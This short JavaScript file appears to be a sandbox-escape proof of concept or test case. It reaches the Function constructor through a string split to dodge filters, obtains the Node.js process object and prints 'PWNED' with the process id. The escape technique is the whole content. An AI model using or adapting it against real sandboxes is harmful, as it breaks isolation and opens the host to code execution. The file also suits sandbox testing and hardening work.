'use strict';
const w = ['con', 'structor'].join('');
const t = { go: (f) => f[w] };
t.go({});
const fn = (x) => x;
const id = (x) => x;
const o = Date.now() > 1 ? id.bind(null, t)() : {};
console.log('PWNED', o.go(fn)('return process')().pid);
